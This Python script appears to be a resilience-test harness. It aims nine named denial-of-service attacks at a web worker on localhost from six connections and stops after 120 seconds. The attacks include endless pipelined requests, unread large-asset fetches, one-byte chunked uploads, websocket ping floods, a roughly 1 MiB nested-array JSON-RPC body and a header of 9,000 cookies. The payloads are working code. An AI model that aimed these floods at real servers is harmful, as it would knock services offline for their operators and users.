"""Attack one worker from a few connections until ended."""

from __future__ import annotations

import socket
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress

CONNECTIONS = 6
_PIECE = 256 * 1024
_SECONDS = 120.0  # and then it ends by itself


def _repeat(unit: bytes) -> Iterator[bytes]:
    block = unit * max(1, _PIECE // len(unit))
    while True:
        yield block


def _head(line: str, cookie: str, *fields: str) -> bytes:
    return "\r\n".join([line, "Host: 127.0.0.1:{port}", f"Cookie: {cookie}", *fields, "", ""]).encode()


def _stranger(_: str) -> Iterator[bytes]:
    return _repeat(b"GET / HTTP/1.1\r\nHost:a\r\n\r\n")


def _refused(cookie: str) -> Iterator[bytes]:
    return _repeat(_head("DELETE / HTTP/1.1", cookie, "Origin: http://elsewhere.example"))


def _asset(cookie: str) -> Iterator[bytes]:
    return _repeat(_head("GET /web/static/large.js HTTP/1.1", cookie))


def _chunks(cookie: str) -> Iterator[bytes]:
    yield _head("POST /upload HTTP/1.1", cookie, "Transfer-Encoding: chunked")
    yield from _repeat(b"1\r\nx\r\n")


def _handshake(path: str, cookie: str) -> bytes:
    return _head(
        f"GET {path} HTTP/1.1",
        cookie,
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    )


def _pings(cookie: str) -> Iterator[bytes]:
    yield _handshake("/websocket", cookie)
    yield from _repeat(b"\x89\x80abcd")


def _pings_of_the_environment(cookie: str) -> Iterator[bytes]:
    yield _handshake("/websocket/pings", cookie)


def _answer_of_chunks(cookie: str) -> Iterator[bytes]:
    yield _head("GET /chunks HTTP/1.1", cookie)


def _json(cookie: str) -> Iterator[bytes]:
    body = b'{"jsonrpc":"2.0","method":"call","params":{"args":[' + b"[[]]," * 209_000 + b"[]]}}"
    path = "/web/dataset/call_kw/res.partner/web_search_read"
    fields = ("Content-Type: application/json", f"Content-Length: {len(body)}")
    yield from _repeat(_head(f"POST {path} HTTP/1.1", cookie, *fields) + body)


def _cookies(cookie: str) -> Iterator[bytes]:
    many = "; ".join([cookie, *(f"{number:x}=" for number in range(9000))])
    yield from _repeat(_head("GET /small HTTP/1.1", many[:60_000]))


ATTACKS: dict[str, tuple[str, Callable[[str], Iterator[bytes]]]] = {
    "stranger": ("a stranger's requests, endless and unread", _stranger),
    "refused": ("a visitor's refused requests, endless", _refused),
    "asset": ("a visitor asks for 2 MiB of cache again and again, and reads nothing", _asset),
    "chunks": ("an upload in chunks of one byte", _chunks),
    "answer-of-chunks": ("an answer in chunks of one byte", _answer_of_chunks),
    "pings": ("a visitor's empty pings", _pings),
    "pings-of-the-environment": ("an environment's empty pings", _pings_of_the_environment),
    "json": ("a view-only visitor's calls of 1 MiB of [[]],", _json),
    "cookies": ("thousands of cookies", _cookies),
}
"""What each is in words, and what it sends on one connection for a Cookie field."""
_READ_NOTHING = frozenset({"asset"})


def attack(name: str, port: int, cookie: str, number: int) -> None:
    """Send on one connection after the other, each from an address of this attacker's own."""
    _, make = ATTACKS[name]
    while True:
        with (
            suppress(OSError),
            socket.create_connection(
                ("127.0.0.1", port), timeout=30, source_address=(f"127.2.0.{number + 1}", 0)
            ) as connection,
        ):
            reads = name not in _READ_NOTHING
            reader = threading.Thread(target=_drain if reads else _wait, args=(connection,), daemon=True)
            reader.start()
            for data in make(cookie):
                connection.sendall(data.replace(b"{port}", str(port).encode()))
            reader.join()


def _drain(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(1024 * 1024):
            pass
        # Refused: begin again at once.
        connection.shutdown(socket.SHUT_RDWR)


def _wait(_: socket.socket) -> None:
    """Read nothing."""


def main() -> None:
    """Attack from CONNECTIONS connections at once; the arguments are an attack's name, the port and a Cookie field."""
    name, port, cookie = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    attackers = [
        threading.Thread(target=attack, args=(name, port, cookie, number), daemon=True) for number in range(CONNECTIONS)
    ]
    for each in attackers:
        each.start()
    attackers[0].join(_SECONDS)
